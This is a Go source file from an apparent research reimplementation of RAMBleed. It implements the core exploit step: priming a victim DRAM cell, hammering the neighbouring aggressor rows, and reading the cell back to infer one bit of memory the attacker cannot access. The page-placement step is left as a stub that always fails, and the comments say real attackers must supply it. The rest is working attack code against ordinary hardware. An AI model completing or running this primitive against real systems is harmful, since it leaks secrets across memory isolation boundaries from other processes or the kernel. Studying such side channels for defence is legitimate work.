// Package exploit implements the Rambleed-style single-bit read primitive:
// given a flip known to be striped-sensitive, it infers one bit of a
// victim page the attacker cannot read directly.
package exploit

import (
	"unsafe"

	"ramble/internal/dram"
	"ramble/internal/hammer"
	"ramble/internal/memmap"
)

// PlaceSecret arranges for the kernel to place a page whose contents the
// attacker wants to read into the physical row at rowAligned. The
// mechanism (munmap plus page-cache grooming to win a race with the
// kernel's free-page allocator) is left unmodeled on purpose; the current
// build ships only the injectable seam, matching the reference
// implementation's own unimplemented stub (see DESIGN.md's Open Question
// decisions). Callers needing a real exploit must supply their own
// PlaceSecret-shaped function.
type PlaceSecretFunc func(mm *memmap.MemMap, rowAligned dram.DramAddr, cfg *dram.Config) error

// DefaultPlaceSecret always fails with NoSecretPlacement: placing a victim
// page is an environment-specific operation this module does not perform.
func DefaultPlaceSecret(mm *memmap.MemMap, rowAligned dram.DramAddr, cfg *dram.Config) error {
	return dram.NewError(dram.NoSecretPlacement, "no page-placement strategy configured", nil)
}

// hammerFunc abstracts the aggressor hammer pass so tests can substitute a
// simulated DRAM that flips deterministically, the same seam
// internal/hammer's calibrate uses for a synthetic clock.
type hammerFunc func(p1, p2 unsafe.Pointer, n int)

// ExploitBit infers one secret bit at the flip's position, following the
// five-step procedure: place the secret row, prime the victim
// cell to its starting polarity, hammer the bracketing aggressors, and
// read the victim back. If the targeted bit now reads as the flip's
// complement polarity, the flip fired because the neighbor disagreed with
// the victim, and the inferred secret bit is that complement; otherwise
// the neighbor matched and the secret bit is the victim's starting
// polarity.
func ExploitBit(mm *memmap.MemMap, f dram.Flip, cfg *dram.Config, placeSecret PlaceSecretFunc) (bool, error) {
	return exploitBit(mm, f, cfg, placeSecret, hammer.Hammer)
}

func exploitBit(mm *memmap.MemMap, f dram.Flip, cfg *dram.Config, placeSecret PlaceSecretFunc, hammerBit hammerFunc) (bool, error) {
	if placeSecret == nil {
		placeSecret = DefaultPlaceSecret
	}

	if err := placeSecret(mm, f.Pos.RowAligned(), cfg); err != nil {
		return false, err
	}

	from := idFill(f.Dir)
	to := complFill(f.Dir)
	mm.WriteDramByte(f.Pos, from, cfg)

	above, ok := f.Pos.RowAbove()
	if !ok {
		return false, dram.NewError(dram.SentinelRow, "row has no row-above neighbor", nil)
	}
	below, ok := f.Pos.RowBelow()
	if !ok {
		return false, dram.NewError(dram.SentinelRow, "row has no row-below neighbor", nil)
	}
	aboveRanges := mm.SameRowRanges(above)
	belowRanges := mm.SameRowRanges(below)
	if len(aboveRanges) == 0 || len(belowRanges) == 0 {
		return false, dram.NewError(dram.NoRowConflict, "no aggressor range found in a neighboring row", nil)
	}

	p1 := mm.DramToVirt(aboveRanges[0].Start, cfg)
	p2 := mm.DramToVirt(belowRanges[0].Start, cfg)
	hammerBit(p1, p2, cfg.ReadsPerHammer)

	got := mm.ReadDramByte(f.Pos, cfg)
	bit := (got >> f.Pos.Bit) & 1
	toBit := (to >> f.Pos.Bit) & 1
	fromBit := (from >> f.Pos.Bit) & 1

	if bit == toBit {
		return toBit == 1, nil
	}
	return fromBit == 1, nil
}

func idFill(dir dram.FlipDir) byte {
	if dir == dram.Flip0to1 {
		return 0x00
	}
	return 0xFF
}

func complFill(dir dram.FlipDir) byte {
	return ^idFill(dir)
}
